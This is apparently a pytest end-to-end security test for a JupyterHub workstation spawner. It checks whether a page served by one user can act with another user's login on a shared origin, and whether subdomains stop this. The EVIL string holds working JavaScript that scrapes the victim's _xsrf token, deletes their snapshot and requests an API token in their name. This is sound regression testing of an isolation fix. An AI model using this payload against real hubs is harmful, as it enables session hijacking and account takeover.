"""A page a user's workstation serves cannot act on the hub or the workstations service with the
login of another user who opens it (issue 30, item 1), in a real browser (Debian's headless
Chromium), against a real JupyterHub, proxy, workstations service and the simulator.

Users are root in their workstations, so a user's server serves whatever its user wants under
/user/NAME/: here Mallory's is a page server of her own, put at her route in the proxy (what
her replaced server would look like to a browser). Her page reads the victim's rescue page for
its `_xsrf` and posts the deletion of the victim's snapshot, then reads the hub's token page and
asks the hub's API for a token in the victim's name.

- On one origin for all (no `subdomain_host`: what the opt-out `allow_shared_origin` allows),
  the page is the hub's own origin: the attack succeeds. This is the defect, shown.
- With subdomains (JupyterHub puts each user on NAME.HUB and each service on
  NAME--service.HUB: jupyterhub/app.py subdomain_host, subdomain_hook), the page is another
  origin than the hub's and the service's: the browser lets it read neither (nor frame them:
  frame-ancestors 'self'), and the posts it can send carry no `_xsrf`, so nothing changes.

Browsers map every *.localhost name to this machine (the C library does not, so the test's HTTP
clients reach the proxy at 127.0.0.1 and name the host in the Host header, which is what the
proxy routes by: configurable-http-proxy --host-routing). hub.localhost and its subdomains are
one site, as jupyter.example.org and alice.jupyter.example.org are: the browser sends their
SameSite=Lax cookies along, and the origins alone keep them apart. (The __Host- cookie prefix,
which production adds, needs HTTPS; this hub is plain HTTP.)
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import requests
from conftest import SERVICE_API, Hub

from kubevirt_spawner.demo import DEMO_PASSWORD

from simtools import wait_for

EXTRA = """
c.KubeVirtSpawner.workspace_disk_size = ""
c.KubeVirtSpawner.start_timeout = 60
c.KubeVirtSpawner.clone_stall_timeout = 30
c.KubeVirtSpawner.http_timeout = 40
"""

# Mallory's page. It reports what it managed in #result. It reads the rescue page in a frame: a
# service takes its login cookie on a GET only when the browser navigates (HubOAuth with
# jupyterhub/_xsrf_utils.py), a frame is a navigation, and on the same origin its document is
# the page's to read. The hub's own pages may not be framed at all (frame-ancestors 'none',
# jupyterhub/handlers/base.py), but their handlers take the cookie on a fetch.
EVIL = """<!doctype html><title>cat pictures</title><pre id="result">running</pre><script>
const target = TARGET;
function xsrf(text) {
  const found = text.match(/name="_xsrf" value="([^"]+)"/) || text.match(/xsrf_token["']?\\s*:\\s*["']([^"']+)/);
  return found ? found[1] : "";
}
function framed(url) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { resolve(frame.contentDocument.documentElement.outerHTML); } catch (error) { resolve(""); }
    };
    setTimeout(() => resolve(""), 20000);
    frame.src = url;
    document.body.appendChild(frame);
  });
}
async function attack() {
  const out = {};
  try {
    const token = xsrf(await framed(target.page));
    out.read_page = token !== "";
    const body = new URLSearchParams({_xsrf: token, action: "delete-snapshot", snapshot: "keep"});
    out.delete = (await fetch(target.page, {method: "POST", body, credentials: "include"})).status;
  } catch (error) { out.page_error = String(error); }
  try {
    const token = xsrf(await (await fetch(target.hub + "/hub/token", {credentials: "include"})).text());
    out.read_token_page = token !== "";
    out.token = (await fetch(target.hub + "/hub/api/users/" + target.victim + "/tokens", {
      method: "POST", credentials: "include", body: JSON.stringify({note: "mallory"}),
      headers: {"X-XSRFToken": token, "Content-Type": "application/json"}})).status;
  } catch (error) { out.token_error = String(error); }
  document.getElementById("result").textContent = JSON.stringify(out);
}
attack();
</script>"""


class PageServer:
    """Mallory's own server: her page at every path."""

    def __init__(self, target: dict):
        html = EVIL.replace("TARGET", json.dumps(target)).encode()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(html)

            def log_message(self, *args):
                """Silent: the test reports what the page did, not each request for it."""

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


class Site:
    """A hub as a browser sees it at hub.localhost, with or without subdomains."""

    def __init__(self, hub: Hub, subdomains: bool):
        self.hub, self.subdomains = hub, subdomains
        port = hub.settings.port
        self.hub_url = f"http://hub.localhost:{port}"
        self.service_host = f"workstations--service.hub.localhost:{port}" if subdomains else f"hub.localhost:{port}"

    def user_url(self, user: str) -> str:
        host = f"{user}.hub.localhost" if self.subdomains else "hub.localhost"
        return f"http://{host}:{self.hub.settings.port}/user/{user}/"

    def rescue_page(self, user: str) -> str:
        return f"http://{self.service_host}/services/workstations/workstation/{user}"

    def service_api(self, method: str, path: str, json=None) -> requests.Response:
        """The service's API as an admin, through the proxy, by the host it routes (see above)."""
        return requests.request(method, f"{self.hub.url}{SERVICE_API}{path}", json=json, timeout=120,
                                headers={"Host": self.service_host,
                                         "Authorization": f"token {self.hub.settings.admin_token}"})

    def put_route(self, user: str, target: str):
        """The proxy's route of a user's server, to `target` (configurable-http-proxy's REST API;
        with host routing a route's path starts with its host)."""
        path = f"/{user}.hub.localhost/user/{user}" if self.subdomains else f"/user/{user}"
        r = requests.post(f"http://127.0.0.1:{self.hub.settings.proxy_api_port}/api/routes{path}",
                          json={"target": target}, timeout=30,
                          headers={"Authorization": f"token {self.hub.settings.proxy_token}"})
        assert r.status_code == 201, r.text


def attack(site: Site, browser, victim: str) -> dict:
    """The victim, logged in (to the hub and to the workstations page), opens Mallory's link. What
    Mallory's page managed, and whether the victim's snapshot and tokens are as they were."""
    site.hub.start_server(victim)
    r = site.service_api("POST", f"/workstations/{victim}/snapshots", {"name": "keep"})
    assert r.status_code == 201, r.text
    mallory = PageServer({"page": site.rescue_page(victim), "hub": site.hub_url, "victim": victim})
    context = browser.new_context()
    context.set_default_timeout(60_000)
    try:
        site.put_route("mallory", mallory.url)
        page = context.new_page()
        page.goto(f"{site.hub_url}/hub/login?next=/hub/home")
        page.fill("#username_input", victim)
        page.fill("#password_input", DEMO_PASSWORD)
        page.click("#login_submit")
        page.wait_for_url("**/hub/home")
        page.goto(site.rescue_page(victim))  # (its login: the service's cookie is there too)
        page.locator('.snapshot[data-name="keep"]').wait_for()

        page.goto(site.user_url("mallory") + "cats.html")
        result = page.locator("#result")
        wait_for(lambda: result.inner_text() != "running", 60, what="Mallory's page")
        done = json.loads(result.inner_text())
    finally:
        context.close()
        mallory.close()
    snapshots = site.service_api("GET", f"/workstations/{victim}/snapshots").json()["snapshots"]
    tokens = site.hub.api("GET", f"/users/{victim}/tokens").json()["api_tokens"]
    return {"page": done, "snapshot kept": any(s["name"] == "keep" for s in snapshots),
            "Mallory's tokens": [t for t in tokens if t.get("note") == "mallory"]}


@pytest.fixture
def hub_for(e2e_sim, tmp_path_factory):
    hubs = []

    def make(subdomains: bool) -> Site:
        hub = Hub(tmp_path_factory.mktemp("hub"), e2e_sim, extra_config=EXTRA, subdomains=subdomains)
        hubs.append(hub)  # (before its start: a hub that fails to start still has a proxy to stop)
        hub.start()
        site = Site(hub, subdomains)
        wait_for(lambda: site.service_api("GET", "/workstations").status_code == 200, 60,
                 what="the workstations service")
        return site

    yield make
    for hub in hubs:
        hub.close()


def test_on_one_origin_a_users_page_acts_with_its_visitors_login(hub_for, browser):
    """The defect, as it is wherever the opt-out is set: Mallory's page reads the victim's rescue
    page, deletes the victim's snapshot and makes a token in the victim's name."""
    outcome = attack(hub_for(subdomains=False), browser, "vera")
    assert outcome["page"]["read_page"] and not outcome["snapshot kept"], outcome
    assert outcome["page"]["read_token_page"] and len(outcome["Mallory's tokens"]) == 1, outcome


def test_with_subdomains_a_users_page_can_read_or_do_nothing_for_its_visitor(hub_for, browser):
    outcome = attack(hub_for(subdomains=True), browser, "vivian")
    assert outcome["snapshot kept"] and outcome["Mallory's tokens"] == [], outcome
    assert not outcome["page"].get("read_page") and not outcome["page"].get("read_token_page"), outcome
